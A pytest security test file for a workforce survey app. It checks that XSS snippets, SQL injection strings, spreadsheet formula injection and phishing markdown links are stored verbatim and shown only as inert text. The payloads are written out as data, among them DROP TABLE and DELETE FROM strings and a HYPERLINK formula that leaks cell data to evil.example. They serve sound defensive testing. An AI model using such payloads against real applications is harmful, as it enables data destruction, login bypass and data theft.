"""Hostile text: comments with markdown, HTML or script are stored verbatim and shown only as plain
text; SQL metacharacters in every text input and filter of the survey and access paths change
nothing but the text itself."""

from __future__ import annotations

import re
import shutil
from datetime import date, timedelta

import duckdb
import pytest

from tests.apptest import app_as, assert_no_exception, copy_db, point_app
from tests.ingest_helpers import FIXTURES
from tests.survey_helpers import ADMIN, HR_ALPHA, TODAY, add_wave, full_answers, people, person
from workforce import access_admin, auth, privacy, surveys
from workforce.inert import looks_like_formula
from workforce.viewer import Role, ScopeError, Viewer

PAYLOADS = [
    "<script>alert('x')</script>",
    "**bold** _it_ [link](javascript:alert(1)) <img src=x onerror=alert(1)>",
    "'); DROP TABLE stg_survey_answers; --",
    "\" OR 1=1; --",
    "# Heading\n\n<b>html</b> $x$ :red[colour]",
    "Robert'); DELETE FROM app_users WHERE ('1'='1",
]
SQL_PAYLOADS = ["' OR '1'='1", "x'; DROP TABLE stg_survey_submissions; --", "\"; SELECT * FROM app_users; --",
                "Alpha' --", "%", "_", "\\", "a\x00b".replace("\x00", "")]




def _table_counts(con) -> dict[str, int]:
    tables = [t for (t,) in con.execute("SELECT table_name FROM duckdb_tables() ORDER BY 1").fetchall()]
    return {t: con.execute(f'SELECT count(*) FROM "{t}"').fetchall()[0][0] for t in tables}


def test_hostile_comments_are_stored_verbatim_and_change_nothing_else(company):
    add_wave(company, "w1")
    before = _table_counts(company)
    ids = [p[0] for p in people()][: len(PAYLOADS)]
    for employee_id, payload in zip(ids, PAYLOADS, strict=True):
        result = surveys.submit_response(company, person(employee_id), "w1", full_answers(comment=payload), today=TODAY)
        assert result.status == "accepted"
    stored = sorted(c for (c,) in company.execute("SELECT comment FROM stg_survey_answers WHERE comment IS NOT NULL").fetchall())
    assert stored == sorted(p.strip() for p in PAYLOADS)
    after = _table_counts(company)
    assert after["stg_survey_submissions"] == before["stg_survey_submissions"] + len(PAYLOADS)
    assert after["app_users"] == before["app_users"] == 4
    assert set(after) == set(before)  # no table dropped or created


def test_sql_metacharacters_in_survey_filters_return_nothing_extra(company):
    add_wave(company, "w1")
    for employee_id, *_ in people()[:30]:
        surveys.submit_response(company, person(employee_id), "w1", full_answers(), today=TODAY)
    for bad in SQL_PAYLOADS:
        with pytest.raises(ScopeError):
            privacy.survey_groups(company, ADMIN, "w1", orgs=[bad])  # not an org: nothing in scope
        with pytest.raises(ScopeError):
            privacy.survey_groups(company, HR_ALPHA, "w1", orgs=[bad])
        out = privacy.survey_groups(company, ADMIN, "w1", teams=[bad])
        assert out["suppressed"].all() and out["respondents"].isna().all(), bad
        for kwargs in ({"levels": [bad]}, {"tenure_bands": [bad]}):  # never released, whatever the value
            with pytest.raises(ValueError, match="level or tenure band"):
                privacy.survey_groups(company, ADMIN, "w1", **kwargs)
            with pytest.raises(ValueError, match="level or tenure band"):
                privacy.visible_comments(company, ADMIN, "w1", **kwargs)
        assert privacy.survey_groups(company, ADMIN, bad)["suppressed"].all()  # a wave id that is not one
    # and the genuine figure is untouched
    assert privacy.survey_groups(company, ADMIN, "w1").iloc[0]["respondents"] == 30


def test_sql_metacharacters_in_wave_and_account_inputs_are_plain_text(company):
    title = "Pulse'); DROP TABLE stg_survey_waves; -- <b>x</b>"
    created = surveys.create_wave(company, ADMIN, surveys.WaveForm(title=title, opens_on=TODAY, closes_on=TODAY + timedelta(days=3),
                                                                   audience_orgs=None, question_ids=["qb_morale_1"]), today=TODAY)
    assert created.ok and surveys.get_wave(company, created.wave_id).title == title.strip()
    bad_org = surveys.create_wave(company, ADMIN, surveys.WaveForm(title="t", opens_on=TODAY, closes_on=TODAY,
                                                                   audience_orgs=["Alpha' OR '1'='1"], question_ids=["qb_morale_1"]), today=TODAY)
    assert "Alpha' OR '1'='1" in bad_org.errors["audience"]
    with pytest.raises(auth.AccessChangeError, match="Username"):
        auth.create_account(company, ADMIN, username="x'; DROP TABLE app_users; --", display_name="x",
                            role="employee", password=None)
    name = "Eve'); DELETE FROM app_users; -- **x**"
    auth.create_account(company, ADMIN, username="eve", display_name=name, role="employee", password=None,
                        email="eve@example.com")
    assert company.execute("SELECT display_name FROM app_users WHERE username = 'eve'").fetchall() == [(name,)]
    with pytest.raises(auth.AccessChangeError, match="unknown org"):
        auth.update_access(company, ADMIN, "eve", role="hr_partner", orgs=["Alpha' OR '1'='1"], active=True)
    assert company.execute("SELECT count(*) FROM app_users").fetchall()[0][0] == 5
    assert auth.authenticate(company, "admin' --", "' OR '1'='1") is None
    assert auth.viewer_for_email(company, "' OR 1=1 --@x") is None
    for bad in SQL_PAYLOADS:
        assert access_admin.audit_entries(company, ADMIN, username=bad).empty
        assert access_admin.audit_entries(company, ADMIN, action=bad).empty
    assert len(access_admin.audit_entries(company, ADMIN)) > 0


# ---------------------------------------------------------------------------------- in the app


@pytest.fixture
def hostile_app(sample_db_path, tmp_path, monkeypatch):
    """The sample database with today's wave answered by 12 people whose comments are hostile."""
    db_path = point_app(copy_db(sample_db_path, tmp_path), monkeypatch)
    con = duckdb.connect(str(db_path))
    wave_id = surveys.ensure_demo_wave(con, date.today())
    rows = con.execute(
        "SELECT employee_id FROM int_assignments WHERE valid_to IS NULL AND employee_id NOT IN "
        "(SELECT employee_id FROM app_users WHERE employee_id IS NOT NULL) ORDER BY employee_id LIMIT 12"
    ).fetchall()  # the demo employee answers through the form in a test below
    for i, (employee_id,) in enumerate(rows):
        answers = full_answers(comment=PAYLOADS[i % len(PAYLOADS)])
        result = surveys.submit_response(con, person(employee_id), wave_id, answers, today=date.today())
        assert result.status == "accepted"
    # Results are shown for closed waves only: close it early, as an admin would.
    closed = surveys.close_wave(con, Viewer("admin", Role.ADMIN), wave_id, date.today())
    assert closed.ok, closed.errors
    con.close()
    return db_path


def _rendered_markup(at) -> str:
    """Everything the page renders through markdown (where markup would take effect)."""
    parts = []
    for kind in ("markdown", "caption", "title", "header", "subheader", "info", "success", "warning", "error",
                 "latex"):
        parts += [str(e.value) for e in at.get(kind)]
    return "\n".join(parts)


def test_hostile_comments_show_only_as_plain_text_on_the_results_page(hostile_app):
    at = app_as("admin", "morale")
    assert_no_exception(at)
    cells = set()
    for frame in at.dataframe:
        for column in frame.value.columns:
            cells |= {str(v) for v in frame.value[column]}
    shown = [p for p in PAYLOADS if p.strip() in cells]
    assert shown, "the comments of this 12-person wave are shown (in a table)"
    markup = _rendered_markup(at)
    for payload in PAYLOADS:
        for fragment in ("<script", "onerror", "DROP TABLE", "**bold**", "<b>html</b>", "DELETE FROM"):
            if fragment in payload:
                assert fragment not in markup


def test_sign_in_form_with_sql_metacharacters_fails_cleanly(hostile_app):
    at = app_as(None)
    at.text_input[0].input("admin' --")
    at.text_input[1].input("' OR '1'='1")
    at.button[0].click().run()
    assert_no_exception(at)
    assert "Unknown username or wrong password" in " ".join(str(e.value) for e in at.error)
    assert "username" not in at.session_state
    con = duckdb.connect(str(hostile_app))
    assert con.execute("SELECT username FROM app_audit_log WHERE action = 'sign_in_failed'").fetchall() == [("admin' --",)]
    assert con.execute("SELECT count(*) FROM app_users").fetchall()[0][0] == 4
    con.close()


def test_hostile_comment_through_the_survey_form_is_stored_verbatim(hostile_app, tmp_path):
    at = app_as("employee", "pulse_survey")
    assert_no_exception(at)
    for radio in at.radio:
        radio.set_value(9 if len(radio.options) == 11 else 2)
    payload = PAYLOADS[1] + "\n" + PAYLOADS[2]
    at.text_area[0].input(payload)
    next(b for b in at.button if b.label == "Submit answers").click().run()
    assert_no_exception(at)
    assert "received" in " ".join(str(s.value) for s in at.success)
    assert payload not in _rendered_markup(at)
    con = duckdb.connect(str(hostile_app))
    stored = con.execute(
        "SELECT a.comment FROM stg_survey_answers a JOIN stg_survey_submissions s USING (response_id) "
        "WHERE a.comment = ?", [payload]
    ).fetchall()
    assert stored == [(payload,)]
    assert con.execute("SELECT count(*) FROM stg_survey_answers").fetchall()[0][0] > 0
    con.close()


# ------------------------------------------------------------- inert text (issue 13, finding 9)

FORMULA_USERNAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open report")'
PHISHING = "[Reset your password](https://evil.example/reset) ![x](https://evil.example/pixel.png)"


@pytest.fixture
def downloads(monkeypatch):
    """The bytes of every file the app offers for download in this test (the CSVs themselves)."""
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    captured: list[bytes] = []
    original = MemoryMediaFileStorage.load_and_get_id

    def capture(self, path_or_data, mimetype, kind, filename=None):
        if isinstance(path_or_data, bytes) and mimetype == "text/csv":
            captured.append(path_or_data)
        return original(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", capture)
    return captured


def test_a_formula_typed_as_a_username_is_inert_in_the_audit_csv(hostile_app, downloads):
    at = app_as(None)
    at.text_input[0].input(FORMULA_USERNAME)
    at.text_input[1].input("whatever")
    at.button[0].click().run()
    assert_no_exception(at)
    page = app_as("admin", "audit_log")
    assert_no_exception(page)
    import csv
    import io

    cells = [cell for blob in downloads for row in csv.reader(io.StringIO(blob.decode("utf-8"))) for cell in row]
    assert any(FORMULA_USERNAME in cell for cell in cells), "the failed sign-in is in the downloaded log"
    assert not [cell for cell in cells if looks_like_formula(cell)]  # the rule every download applies
    assert "'" + FORMULA_USERNAME in cells


def test_every_csv_download_escapes_formulas():
    import pandas as pd

    from ui import downloads as ui_downloads
    from workforce import inert

    frame = pd.DataFrame({"name": ["=1+2", "+cmd", "@SUM(A1)", "-2+3", "\tx", "ok", "-3.5"], "n": range(7)})
    text = inert.inert_csv(frame).decode("utf-8").splitlines()
    assert text[1:] == ["'=1+2,0", "'+cmd,1", "'@SUM(A1),2", "'-2+3,3", "'\tx,4", "ok,5", "-3.5,6"]
    assert ui_downloads.csv_bytes is inert.inert_csv  # the one helper every download uses


def _sample_with_org(tmp_path, org: str, fmt: str):
    """sample_data/ copied, with one person's org renamed; job_history written as `fmt`."""
    from workforce.db import SAMPLE_DATA_DIR

    folder = tmp_path / f"export_{fmt}"
    folder.mkdir()
    for path in SAMPLE_DATA_DIR.glob("*.parquet"):
        if path.stem != "job_history":
            shutil.copy(path, folder / path.name)
    con = duckdb.connect()
    con.execute(f"CREATE TABLE jh AS SELECT * FROM read_parquet('{SAMPLE_DATA_DIR / 'job_history.parquet'}')")
    con.execute("UPDATE jh SET org = ? WHERE employee_id = (SELECT min(employee_id) FROM jh)", [org])
    target = folder / f"job_history.{fmt}"
    con.execute(f"COPY jh TO '{target}' (FORMAT {'csv, HEADER' if fmt == 'csv' else 'parquet'})")
    con.close()
    return folder


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_command_line_loader_and_data_page_reject_the_same_formula_names(tmp_path, fmt):
    from etl import ingest

    folder = _sample_with_org(tmp_path, "=HYPERLINK(\"http://evil.example\",\"Org\")", fmt)
    db_path = tmp_path / "target.duckdb"
    messages: list[str] = []
    code = ingest.cli_load(folder, db_path, tmp_path / "k.key", quiet=True, print_fn=messages.append)
    assert code == 1, "the command line refuses the file"
    assert not db_path.exists() or duckdb.connect(str(db_path)).execute(
        "SELECT count(*) FROM information_schema.tables WHERE table_name = 'stg_job_history'").fetchall()[0][0] == 0
    page = ingest.ingest_files(sorted(folder.iterdir()), tmp_path / "page.duckdb", user="admin", dry_run=True)
    assert page.status == "rejected"
    assert any("formula injection" in p.rule and p.column == "org" for p in page.problems), page.problems


_LIVE_MARKUP = re.compile(r"(?<!\\)\]\(|(?<!\\)!\[|(?<!\\)<[a-z]|https?://")


def test_names_and_file_names_never_render_as_markdown(hostile_app):
    """A display name, an org in an HR partner's scope and an uploaded file's name carrying a
    phishing link and an external image are shown as text wherever markdown is read."""
    con = duckdb.connect(str(hostile_app))
    con.execute("UPDATE app_users SET display_name = ? WHERE username IN ('admin', 'hr')", [PHISHING])
    con.execute("INSERT INTO app_user_scopes VALUES ('hr', ?)", [PHISHING])
    con.close()
    at = app_as("hr", "overview")
    assert_no_exception(at)
    markup = _rendered_markup(at) + " ".join(str(e.value) for e in at.sidebar.get("caption"))
    assert "Reset your password" in markup  # the names are there, as text
    assert not _LIVE_MARKUP.search(markup), markup
    page = app_as("admin", "data_admin")
    export = (FIXTURES / "claude_code_analytics.json").read_bytes()
    page.file_uploader[0].set_value([(PHISHING + ".json", export, "application/json")]).run()
    assert_no_exception(page)
    labels = " ".join(str(e.label) for e in page.expander) + _rendered_markup(page)
    assert "Reset your password" in labels  # the file's preview is offered, under its name
    assert not _LIVE_MARKUP.search(labels), labels
